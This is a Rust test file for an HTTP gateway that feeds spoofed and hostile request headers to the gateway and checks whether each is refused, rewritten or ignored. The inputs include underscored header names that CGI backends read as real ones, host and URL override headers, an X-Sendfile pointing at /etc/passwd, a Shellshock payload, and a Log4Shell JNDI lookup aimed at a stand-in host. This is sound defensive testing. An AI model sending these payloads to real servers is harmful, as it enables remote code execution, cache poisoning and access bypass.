//! Headers in disguise, and headers that other gateways believe.

use crate::support::raw::{Case, answered, case, form, post, reframed, refused, run, served};

#[test]
fn headers_in_disguise_are_refused_and_beliefs_change_nothing() {
    run("spoofs", &cases());
}

pub(super) fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    // A backend behind CGI or WSGI reads `_` as `-`.
    for (name, line) in [
        ("underscored-length", "Content_Length: 0\r\n"),
        ("underscored-length-in-capitals", "CONTENT_LENGTH: 0\r\n"),
        (
            "underscored-coding-of-nothing",
            "Transfer_Encoding: identity\r\n",
        ),
        (
            "underscored-coding-in-small-letters",
            "transfer_encoding: chunked\r\n",
        ),
        ("underscored-key", "X_Api_Key: abcdefghijklmnopqrstuvwx\r\n"),
        (
            "half-underscored-key",
            "X-Api_Key: abcdefghijklmnopqrstuvwx\r\n",
        ),
        (
            "other-half-underscored-key",
            "X_Api-Key: abcdefghijklmnopqrstuvwx\r\n",
        ),
        ("underscored-id", "X_Request_Id: spoofed\r\n"),
        ("half-underscored-id", "X-Request_Id: spoofed\r\n"),
        ("underscored-version", "X_Deployment_Version: 2\r\n"),
        ("underscored-epoch", "X_Config_Epoch: 2\r\n"),
        ("underscored-wish-for-later", "X_Async_Request: true\r\n"),
    ] {
        cases.push(case(
            name,
            "issue: underscored spoofs (CGI)",
            post(line),
            refused(),
        ));
    }
    // These say nothing that a backend would act on.
    for (name, line) in [
        ("underscored-keep-alive", "Keep_Alive: timeout=1\r\n"),
        (
            "underscored-proxy-connection",
            "Proxy_Connection: close\r\n",
        ),
        (
            "underscored-proxy-authorization",
            "Proxy_Authorization: Basic YTpi\r\n",
        ),
        ("underscored-settings", "Http2_Settings: AAMA\r\n"),
    ] {
        let allowed = reframed(form()).or(refused());
        cases.push(case(
            name,
            "issue: underscored spoofs (CGI)",
            post(line),
            allowed,
        ));
    }
    for (name, line, has) in [
        (
            "underscored-name-of-nobody",
            "X_Mine: a\r\n",
            ("x_mine", "a"),
        ),
        (
            "name-with-points",
            "x.api.key.of: a\r\n",
            ("x.api.key.of", "a"),
        ),
        ("underscore-first", "_a: b\r\n", ("_a", "b")),
    ] {
        let form = form().has(has.0, has.1);
        cases.push(case(
            name,
            "RFC 9110 5.1: a token",
            post(line),
            served(form),
        ));
    }
    // Believed by others: where a request goes is told by its target and `Host` alone.
    for (name, rule, line) in [
        (
            "original-url",
            "X-Original-URL (CVE-2018-14773)",
            "X-Original-URL: /predict/demo/iris/smuggled\r\n",
        ),
        (
            "rewritten-url",
            "X-Rewrite-URL (CVE-2018-14773)",
            "X-Rewrite-URL: /predict/demo/iris/smuggled\r\n",
        ),
        (
            "forwarded-host",
            "RFC 7239; cache poisoning",
            "X-Forwarded-Host: evil.test\r\n",
        ),
        (
            "two-forwarded-hosts",
            "RFC 7239; cache poisoning",
            "X-Forwarded-Host: a\r\nX-Forwarded-Host: b\r\n",
        ),
        (
            "original-host",
            "Host header attacks",
            "X-Original-Host: evil.test\r\n",
        ),
        (
            "host-override",
            "Host header attacks",
            "X-Host: evil.test\r\nX-HTTP-Host-Override: evil.test\r\n",
        ),
        (
            "forwarded-for-loopback",
            "RFC 7239: spoofed address",
            "X-Forwarded-For: 127.0.0.1\r\n",
        ),
        (
            "forwarded",
            "RFC 7239",
            "Forwarded: for=127.0.0.1;host=evil.test;proto=https\r\n",
        ),
        (
            "forwarded-scheme",
            "RFC 7239",
            "X-Forwarded-Proto: https\r\nX-Forwarded-Scheme: nothttps\r\n",
        ),
        (
            "forwarded-path",
            "path override",
            "X-Forwarded-Prefix: /smuggled\r\nX-Forwarded-Uri: /smuggled\r\n",
        ),
        (
            "real-address",
            "spoofed address",
            "X-Real-IP: 127.0.0.1\r\nTrue-Client-IP: 127.0.0.1\r\n",
        ),
        (
            "middleware-subrequest",
            "CVE-2025-29927",
            "X-Middleware-Subrequest: middleware\r\n",
        ),
        (
            "proxy-by-cgi",
            "httpoxy (CVE-2016-5385)",
            "Proxy: http://evil.test\r\n",
        ),
        (
            "accel-redirect",
            "X-Accel-Redirect",
            "X-Accel-Redirect: /internal\r\nX-Sendfile: /etc/passwd\r\n",
        ),
        (
            "link-to-nowhere",
            "RFC 8288",
            "Destination: http://evil.test/\r\nReferer: http://evil.test/\r\n",
        ),
        (
            "via-and-hops",
            "RFC 9110 7.6.3",
            "Via: 1.1 evil.test\r\nMax-Forwards: 0\r\n",
        ),
        (
            "shellshock",
            "CVE-2014-6271",
            "User-Agent: () { :; }; echo vulnerable\r\n",
        ),
        (
            "log4shell",
            "CVE-2021-44228",
            "User-Agent: ${jndi:ldap://evil.test/a}\r\n",
        ),
        (
            "cookies-in-two-lines",
            "RFC 6265 5.4",
            "Cookie: a=b\r\nCookie: c=d\r\n",
        ),
        (
            "range-of-everything",
            "CVE-2011-3192",
            "Range: bytes=0-,5-0,5-1,5-2,5-3\r\n",
        ),
        (
            "trace-of-zeros",
            "W3C Trace Context 3.2.2",
            "traceparent: 00-00000000000000000000000000000000-0000000000000000-00\r\n",
        ),
        (
            "trace-of-garbage",
            "W3C Trace Context 3.2.2",
            "traceparent: garbage\r\ntracestate: ,,,\r\n",
        ),
        (
            "language-of-a-kilobyte",
            "RFC 9110 12.5.4",
            "Accept-Language: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n",
        ),
    ] {
        cases.push(case(name, rule, post(line), served(form())));
    }
    // weir's own: replaced, or not believed.
    for (name, line) in [
        ("id-of-a-client", "X-Request-Id: mine\r\n"),
        ("id-with-spaces", "X-Request-Id: a b\r\n"),
        ("id-with-markup", "X-Request-Id: <script>\r\n"),
        ("two-ids", "X-Request-Id: a\r\nX-Request-Id: b\r\n"),
        ("empty-id", "X-Request-Id:\r\n"),
        ("id-of-high-bytes", "X-Request-Id: \u{e9}\r\n"),
    ] {
        // There is exactly one upstream; the judge counts them in every case.
        cases.push(case(
            name,
            "design.md 3: X-Request-Id",
            post(line),
            served(form()),
        ));
    }
    let long = format!("X-Request-Id: {}\r\n", "a".repeat(5_000));
    cases.push(case(
        "id-of-5-kb",
        "design.md 3: X-Request-Id",
        post(long),
        served(form()),
    ));
    let pinned = post("X-Deployment-Version: 1\r\n");
    cases.push(case(
        "pinned-without-leave",
        "design.md 3: may_pin",
        pinned,
        answered(&[403]),
    ));
    let epoch = post("X-Config-Epoch: 999\r\n");
    cases.push(case(
        "epoch-of-a-client",
        "design.md 3",
        epoch,
        reframed(form()).or(refused()),
    ));
    cases
}
